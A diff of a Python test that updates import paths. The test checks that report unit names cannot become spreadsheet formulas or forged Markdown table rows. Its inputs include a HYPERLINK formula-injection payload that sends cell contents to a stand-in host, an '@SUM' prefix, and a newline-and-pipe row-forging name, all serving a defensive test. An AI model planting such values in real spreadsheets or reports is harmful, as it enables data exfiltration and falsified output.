@@ -201,8 +201,8 @@ def test_a_fifo_never_hangs_check(tmp_path):
 def test_a_name_cannot_become_a_formula_or_a_row_of_the_summary():
     import openpyxl
 
-    from perfreport.batch import UnitResult
-    from perfreport.summary import markdown, xlsx
+    from perfreport.commands.batch import UnitResult
+    from perfreport.commands.summary import markdown, xlsx
     results = [UnitResult(file="a.yaml", name='=HYPERLINK("http://x"&D3,"点击")', year=2023),
                UnitResult(file="b.yaml", name="@SUM(1)", year=2023),
                UnitResult(file="c.yaml", name="甲局\n| 伪造 | 行 |", year=2023)]
